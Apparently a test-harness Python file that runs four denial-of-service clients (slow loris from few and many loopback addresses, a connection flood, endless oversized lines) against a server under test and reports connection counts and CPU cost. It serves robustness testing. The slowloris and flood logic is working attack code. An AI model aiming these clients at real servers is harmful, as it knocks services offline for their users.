"""The clients of attacks.py that mean ill: four attacks at the same time, on being told.

They are cheap and give way to the good clients, beside which they run on one core: what is to
be shown is what they cost the server. Plain non-blocking sockets do.
"""

import os
import select
import socket
import struct
import time

from programs import read_settings, say

ROUND_SECONDS = 0.02
RESET = struct.pack("ii", 1, 0)
BLOCK = b"x" * 65536
FEW_ADDRESSES = 4


class Attack:
    """Connections that are kept up: a number of them, from addresses, each with its vice."""

    name = ""
    connections = 0
    connects_per_second = 0

    def __init__(self, settings):
        self._addresses = [tuple(address) for address in settings.addresses]
        self._socks = {}
        self._owed = 0.0
        self._number = 0
        self.connected = self.closed = 0

    def choose_host(self, number):
        """Return the address that a connection comes from."""
        return f"127.0.66.{number % FEW_ADDRESSES + 1}"

    def go_on(self, seconds):
        """Do what is due after so many seconds."""
        self._owed = min(self._owed + seconds * self.connects_per_second, 100.0)
        while self._owed >= 1:
            self._owed -= 1
            if len(self._socks) < self.connections:
                self._connect()
        for sock in list(self._socks):
            self._use(sock)

    def _connect(self):
        self._number += 1
        sock = socket.socket()
        sock.setblocking(False)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        try:
            sock.bind((self.choose_host(self._number), 0))
            sock.connect_ex(self._addresses[self._number % len(self._addresses)])
        except OSError:
            sock.close()
            return
        self.connected += 1
        self._socks[sock] = time.monotonic()

    def _use(self, sock):
        """Let a connection do its worst; drop it when the server has closed it."""

    def _send(self, sock, data):
        try:
            sock.send(data)
        except BlockingIOError:
            pass
        except OSError:
            self._drop(sock)
            self.closed += 1

    def _drop(self, sock):
        self._socks.pop(sock)
        sock.close()

    def stop(self):
        """Go away, all at once."""
        for sock in list(self._socks):
            self._drop(sock)


class SlowLoris(Attack):
    """Lines that never end: a byte now and then on many connections."""

    name = "slow loris from few addresses"
    connections = 400
    connects_per_second = 400

    def __init__(self, settings):
        super().__init__(settings)
        self._byte_seconds = settings.byte_seconds

    def _use(self, sock):
        if time.monotonic() - self._socks[sock] > self._byte_seconds:
            self._socks[sock] = time.monotonic()
            self._send(sock, b"x")


class WideSlowLoris(SlowLoris):
    """The same from an address for each connection, where counting by address is of no use."""

    name = "slow loris from many addresses"
    connections = 1000
    connects_per_second = 250

    def choose_host(self, number):
        return f"127.1.{number // 200 % 200}.{number % 200 + 1}"


class Flood(Attack):
    """Connections that say nothing, one after the other."""

    name = "connection flood"
    connections = 1500
    connects_per_second = 500

    def _connect(self):
        if len(self._socks) >= self.connections - 1:
            self._drop(next(iter(self._socks)))
        super()._connect()


class GiantLines(Attack):
    """Lines without an end, by blocks."""

    name = "giant lines"
    connections = 8
    connects_per_second = 50

    def choose_host(self, number):
        return "127.0.67.1"

    def _use(self, sock):
        self._send(sock, BLOCK)


ATTACKS = {attack.__name__: attack for attack in (SlowLoris, WideSlowLoris, Flood, GiantLines)}


def main():
    os.nice(10)
    settings = read_settings()
    attacks = [ATTACKS[name](settings) for name in settings.attacks]
    say(ready=True)
    is_on = False
    before = time.monotonic()
    while True:
        if select.select([0], [], [], ROUND_SECONDS if is_on else None)[0]:
            words = os.read(0, 4096).split()
            if not words:
                return
            is_on = words[-1] == b"on"
            if not is_on:
                for attack in attacks:
                    attack.stop()
            before = time.monotonic()
            told = {attack.name: [attack.connected, attack.closed] for attack in attacks}
            say(attacks=told, cpu_seconds=time.process_time())
        if is_on:
            now = time.monotonic()
            for attack in attacks:
                attack.go_on(now - before)
            before = now


main()
